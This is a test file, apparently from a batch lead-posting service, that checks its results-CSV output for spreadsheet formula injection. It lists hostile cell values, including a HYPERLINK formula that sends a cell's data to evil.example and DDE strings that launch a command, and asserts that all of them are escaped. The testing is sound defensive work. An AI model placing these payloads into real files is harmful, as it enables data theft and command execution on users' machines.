import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { postModificationFile } from '../../src/batch/lead-poster/post-file';
import { csvField, csvValue, formatResultsCsv, parseResultsCsv, resultsCsvRecord } from '../../src/batch/results-csv';
import type { RowResult } from '../../src/core/row-result';
import { consoleClient } from '../console/console-client';
import { testEngines } from '../support/databases';
import { buildScene } from '../support/factories';
import { useTestServer } from '../support/test-server';
import { csvFile, drainBatches, fetchResults, uploadRaw } from './batch-helpers';

/** Values a merchant's file (or an attacker's) may carry, each of which a spreadsheet would run or read as a formula. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '-2+3',
  '\t=1+2',
  '\r=1+2',
];

/** Every field of a CSV as a spreadsheet's CSV import sees it (quotes removed, nothing unescaped). */
const cellsOf = (csv: string): string[] => (parse(csv, { relax_column_count: true }) as string[][]).flat();
/** A cell a spreadsheet would evaluate: one starting with a formula character (OWASP). */
const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell);

const row = (fields: Partial<RowResult>): RowResult => ({
  rowNumber: 1,
  succeeded: false,
  message: 'Permanent failure: Invalid transaction specified',
  transactionId: '',
  clickId: '',
  merchantReferenceId: '',
  cid: '',
  ...fields,
});

describe('results CSV cells that a spreadsheet would run', () => {
  it.each(FORMULAS)('writes %j as text: an apostrophe in front, quoted', (value) => {
    expect(csvField(value)).toBe(`"'${value.replace(/"/g, '""')}"`);
    expect(cellsOf(resultsCsvRecord(row({ clickId: value }))).some(runnable)).toBe(false);
  });

  it('leaves every other value as it was, the project’s own cells included', () => {
    expect(
      resultsCsvRecord(
        row({ rowNumber: 12, transactionId: '1001', clickId: 'abc-1', merchantReferenceId: 'ORDER=1', cid: '100' }),
      ),
    ).toBe('12,False,Permanent failure: Invalid transaction specified,1001,abc-1,ORDER=1,100\r\n');
  });

  it('reads back exactly what it wrote, a leading apostrophe of the value itself included', () => {
    const results = [...FORMULAS, "'=already escaped", "'plain", "''"].map((value, i) =>
      row({ rowNumber: i + 1, clickId: value, merchantReferenceId: value }),
    );
    expect(parseResultsCsv(formatResultsCsv(results))).toEqual(results);
    expect(csvValue("'-1")).toBe('-1');
    expect(csvValue("'x")).toBe("'x");
  });
});

describe.each(testEngines())('every results CSV the project writes on %s', (engine) => {
  const context = useTestServer(engine);

  /** A file whose rows echo formulas in every identifier column. */
  async function uploadFormulas() {
    const { campaign } = await buildScene(context.server.services);
    const rows = FORMULAS.map((value) => [campaign.password as string, value, '', '', value]);
    const upload = await uploadRaw(
      context.server.baseUrl,
      csvFile([['Password', 'ClickID', 'MerchantreferenceID', 'TransactionID', 'CID'], ...rows]),
      { filename: 'formulas.csv' },
    );
    expect(upload.status).toBe(202);
    await drainBatches(context.server.services);
    return upload.body.id as number;
  }

  it('the admin API’s results (GET /batches/:id/results): no runnable cell, the values intact behind the escape', async () => {
    const id = await uploadFormulas();
    const { text, results } = await fetchResults(context.server.baseUrl, id);
    expect(cellsOf(text).filter(runnable)).toEqual([]);
    // Each row's ClickID and CID both came back, escaped, and read back as sent.
    expect(results.map((result) => [result.clickId, result.cid])).toEqual(FORMULAS.map((value) => [value, value]));
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click me"")",`);
  });

  it('the console’s download: the same bytes', async () => {
    const id = await uploadFormulas();
    const session = await consoleClient(context.server.baseUrl);
    const download = await session.get(`/admin/batches/${id}/results`);
    expect(download.status).toBe(200);
    expect(download.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(cellsOf(download.body).filter(runnable)).toEqual([]);
    expect(download.body).toBe((await fetchResults(context.server.baseUrl, id)).text);
  });

  it('the Lead Poster’s results file (txedit post): no runnable cell, and a re-run still knows the rows are done', async () => {
    const { campaign } = await buildScene(context.server.services);
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'formulas-'));
    try {
      const file = path.join(dir, 'formulas.csv');
      fs.writeFileSync(
        file,
        csvFile([['Password', 'ClickID'], ...FORMULAS.map((value) => [campaign.password as string, value])]),
      );
      const post = () => postModificationFile({ file, url: context.server.baseUrl, sleep: async () => undefined });
      const first = await post();
      expect(first).toMatchObject({ ok: true, summary: { posted: FORMULAS.length, failed: FORMULAS.length } });
      const written = fs.readFileSync(`${file}.results.csv`, 'utf8');
      expect(cellsOf(written).filter(runnable)).toEqual([]);
      // The permanent failures are recorded against the very values of the input: nothing is posted again.
      expect(await post()).toMatchObject({ ok: true, summary: { posted: 0, skipped: FORMULAS.length } });
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
